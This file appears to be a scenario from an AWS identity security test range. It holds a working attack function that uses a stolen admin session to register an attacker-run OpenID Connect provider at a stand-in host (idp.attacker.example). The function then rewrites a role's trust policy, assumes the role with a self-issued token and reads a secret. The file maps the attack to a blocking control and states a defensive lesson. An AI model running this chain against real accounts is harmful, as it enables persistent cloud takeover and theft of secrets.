"""A provider of the attacker's own, added to an account that we trust."""

from __future__ import annotations

import json

from iamrange.core import aws_controls
from iamrange.core import frameworks as fw
from iamrange.core.scenario import Asset, AssetKind, Foothold, Loot, Material, Part, Scenario, Taken
from scenarios import attackers_issuer, workloads
from scenarios.attackers_issuer import AttackersIssuer


def attack(foothold: Taken) -> Loot:
    """Register an issuer, have a role trust it, and vouch for oneself."""
    role_arn = foothold.knows["target.aws_role_arn"]
    audience = foothold.knows["aws.audience"]
    issuer = AttackersIssuer.published()
    iam = workloads.aws_session(foothold.aws_session).client("iam")
    provider = iam.create_open_id_connect_provider(
        Url=attackers_issuer.URL, ClientIDList=[audience]
    )["OpenIDConnectProviderArn"]
    trust = {
        "Version": "2012-10-17",
        "Statement": [
            {
                "Effect": "Allow",
                "Principal": {"Federated": provider},
                "Action": "sts:AssumeRoleWithWebIdentity",
                "Condition": {"StringEquals": {"idp.attacker.example:aud": audience}},
            }
        ],
    }
    iam.update_assume_role_policy(
        RoleName=role_arn.rsplit("/", 1)[1], PolicyDocument=json.dumps(trust)
    )
    token = issuer.token({"sub": "whoever-i-say", "aud": audience})
    session = workloads.assume_with_token(token, role_arn, name="own-issuer")
    secret = workloads.read_aws_secret(
        workloads.aws_session(session), foothold.knows["target.aws_secret_arn"]
    )
    return Loot((secret,))


SCENARIO = Scenario(
    claim="an issuer that somebody adds to the account opens no role in it",
    blocked_by=(aws_controls.ISSUER_ALLOW_LIST,),
    foothold=Foothold(Part.PLATFORM_ADMIN, Material.AWS_SESSION, taken_from="process memory"),
    asset=Asset(AssetKind.AWS_SECRET, Part.HR_ASSISTANT),
    knows=("aws.audience", "target.aws_role_arn", "target.aws_secret_arn"),
    legitimate=workloads.LOOKS_AFTER_THE_ACCOUNT,
    attack=attack,
    maps_to=(fw.NHI4, fw.NHI6, fw.T1199),
    lesson="A provider added in a minute needs no key of ours, and outlives every one we rotate.",
)
